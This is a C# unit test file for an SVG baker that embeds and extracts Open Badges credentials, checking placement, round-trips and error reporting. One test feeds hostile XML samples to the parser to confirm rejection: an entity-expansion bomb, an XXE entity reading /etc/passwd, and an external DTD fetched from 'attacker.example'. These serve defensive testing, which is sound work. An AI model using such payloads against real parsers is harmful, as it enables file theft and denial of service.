using System.Text;
using FsCheck;
using FsCheck.Xunit;
using Pipeline.Core.Baking;

namespace Pipeline.Core.Tests.Baking;

public sealed class SvgBakeryTests
{
    private static string Unbaked() => BakingFixtures.ReadText("ob2", "bakery", "unbaked.svg");

    private static int Count(string text, string part) => (text.Length - text.Replace(part, "", StringComparison.Ordinal).Length) / part.Length;

    [Fact]
    public void Bake_jwt_adds_namespace_and_element_right_after_the_svg_tag_and_changes_nothing_else()
    {
        var source = Unbaked();

        var baked = SvgBakery.Bake(source, BakedCredential.Ob3Jwt(BakingFixtures.SampleJwt)).Value!;

        var expected = source.Replace(
            """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512">""",
            $"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">{"\n"}<openbadges:credential verify="{BakingFixtures.SampleJwt}"></openbadges:credential>""",
            StringComparison.Ordinal);
        Assert.Equal(expected, baked);
    }

    [Fact]
    public void Bake_json_puts_it_in_cdata_without_verify()
    {
        var baked = SvgBakery.Bake(Unbaked(), BakedCredential.Ob3Json(BakingFixtures.SampleJson)).Value!;

        Assert.Contains($"<openbadges:credential><![CDATA[{BakingFixtures.SampleJson}]]></openbadges:credential>", baked, StringComparison.Ordinal);
        Assert.Equal(BakedCredential.Ob3Json(BakingFixtures.SampleJson), SvgBakery.Unbake(baked).Value);
    }

    [Fact]
    public void Rebake_replaces_leaving_exactly_one_element_and_the_same_text_as_one_bake()
    {
        var once = SvgBakery.Bake(Unbaked(), BakedCredential.Ob3Json(BakingFixtures.SampleJson)).Value!;

        var twice = SvgBakery.Bake(once, BakedCredential.Ob3Jwt(BakingFixtures.SampleJwt)).Value!;

        Assert.Equal(1, Count(twice, "<openbadges:credential"));
        Assert.Equal(SvgBakery.Bake(Unbaked(), BakedCredential.Ob3Jwt(BakingFixtures.SampleJwt)).Value, twice);
    }

    [Fact]
    public void Bake_ob3_into_an_ob2_baked_svg_keeps_the_assertion_and_declares_its_own_namespace()
    {
        var ob2 = BakingFixtures.ReadText("ob2", "bakery", "baked.svg");

        var kept = SvgBakery.Bake(ob2, BakedCredential.Ob3Jwt(BakingFixtures.SampleJwt)).Value!;
        var dropped = SvgBakery.Bake(ob2, BakedCredential.Ob3Jwt(BakingFixtures.SampleJwt), keepOtherVersion: false).Value!;

        Assert.Contains("""<openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" verify=""", kept, StringComparison.Ordinal);
        Assert.Equal(1, Count(kept, "<openbadges:assertion"));
        Assert.Equal(0, Count(dropped, "<openbadges:assertion"));
        Assert.Equal(BakedCredential.Ob3Jwt(BakingFixtures.SampleJwt), SvgBakery.Unbake(kept).Value);
    }

    [Fact]
    public void Bake_ob2_hosted_json_sets_verify_to_its_id()
    {
        var assertion = BakingFixtures.ReadText("ob2", "validator", "basic-assertion.json").Trim();

        var baked = SvgBakery.Bake(Unbaked(), BakedCredential.Ob2Json(assertion)).Value!;

        Assert.Contains("""xmlns:openbadges="http://openbadges.org""", baked, StringComparison.Ordinal);
        Assert.Contains("""<openbadges:assertion verify="https://example.org/beths-robotics-badge.json"><![CDATA[""", baked, StringComparison.Ordinal);
        Assert.Equal(BakedCredential.Ob2Json(assertion), SvgBakery.Unbake(baked).Value);
    }

    [Fact]
    public void Bake_into_self_closing_svg_opens_it()
    {
        var baked = SvgBakery.Bake("""<svg xmlns="http://www.w3.org/2000/svg"/>""", BakedCredential.Ob3Jwt(BakingFixtures.SampleJwt)).Value!;

        Assert.Equal(
            $"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">{"\n"}<openbadges:credential verify="{BakingFixtures.SampleJwt}"></openbadges:credential>{"\n"}</svg>""",
            baked);
    }

    [Property(MaxTest = 200)]
    public bool Bake_then_unbake_is_the_identity_for_any_text(NonEmptyString text)
    {
        if (!PngBakeryTests.IsWellFormedUtf16(text.Get) || text.Get.Any(c => char.IsControl(c) && c is not ('\t' or '\n' or '\r')) || text.Get.Contains('\r', StringComparison.Ordinal))
        {
            return true;
        }
        var credential = BakedCredential.Ob3Json(BakingFixtures.JsonCarrying(text.Get + "]]>"));

        var baked = SvgBakery.Bake(Encoding.UTF8.GetBytes(Unbaked()), credential).Value!;

        return SvgBakery.Unbake(baked).Value == credential;
    }

    [Theory]
    [InlineData("""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><svg>&lol2;</svg>""", BakingErrorCode.DtdNotAllowed)]
    [InlineData("""<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&xxe;</svg>""", BakingErrorCode.DtdNotAllowed)]
    [InlineData("""<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><svg/>""", BakingErrorCode.DtdNotAllowed)]
    [InlineData("""<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg>&nbsp;</svg>""", BakingErrorCode.NotXml)]
    [InlineData("""<svg><g></svg>""", BakingErrorCode.NotXml)]
    [InlineData("""not xml at all""", BakingErrorCode.NotXml)]
    [InlineData("""<html xmlns="http://www.w3.org/1999/xhtml"/>""", BakingErrorCode.NotSvg)]
    [InlineData("""<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential>  </openbadges:credential></svg>""", BakingErrorCode.EmptyCredential)]
    [InlineData("""<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential><![CDATA[{"a":]]></openbadges:credential></svg>""", BakingErrorCode.InvalidJson)]
    [InlineData("""<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential verify="hello"/></svg>""", BakingErrorCode.UnrecognizedPayload)]
    [InlineData("""<svg xmlns:ob="http://example.org/not-badges"><ob:credential verify="a.b.c"/></svg>""", BakingErrorCode.NoCredential)]
    public void Unbake_hostile_or_bad_svg_fails_with_a_specific_error(string svg, BakingErrorCode code)
    {
        var result = SvgBakery.Unbake(svg);

        Assert.False(result.Succeeded, result.ToString());
        Assert.Equal(code, result.Error.Code);
    }

    /// <summary>Issue 21: the verify API shows this message in its problem detail, so it is ours, not the JSON parser's.</summary>
    [Fact]
    public void Unbake_malformed_JSON_is_described_in_our_words_with_its_position()
    {
        var result = SvgBakery.Unbake("""<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential><![CDATA[{"a":]]></openbadges:credential></svg>""");

        Assert.Equal(BakingErrorCode.InvalidJson, result.Error?.Code);
        Assert.EndsWith("the baked JSON does not parse: it is malformed or nests too deeply (line 1, byte 6).", result.Error!.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("LineNumber", result.Error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Unbake_malformed_XML_gives_its_position_in_our_words()
    {
        var result = SvgBakery.Unbake("<svg><g></svg>");

        Assert.Equal(BakingErrorCode.NotXml, result.Error?.Code);
        Assert.EndsWith("line 1, position 11: the SVG is not well-formed XML.", result.Error!.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Unbake_non_utf8_bytes_are_reported() =>
        Assert.Equal(BakingErrorCode.InvalidUtf8, SvgBakery.Unbake([(byte)'<', 0xC3, 0x28]).Error?.Code);

    [Fact]
    public void Unbake_body_over_the_limit_is_refused()
    {
        var svg = $"""<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential><![CDATA[{new string('x', 2000)}]]></openbadges:credential></svg>""";

        Assert.Equal(BakingErrorCode.PayloadTooLarge, SvgBakery.Unbake(svg, new UnbakingLimits { MaxTextBytes = 1000 }).Error?.Code);
    }

    [Fact]
    public void Bakery_unbake_tells_the_kinds_apart()
    {
        Assert.Equal(BakingErrorCode.UnsupportedImageType, Bakery.Unbake("GIF89a"u8).Error?.Code);
        Assert.Equal(BakingErrorCode.NoCredential, Bakery.Unbake(Encoding.UTF8.GetBytes(Unbaked())).Error?.Code);
    }
}
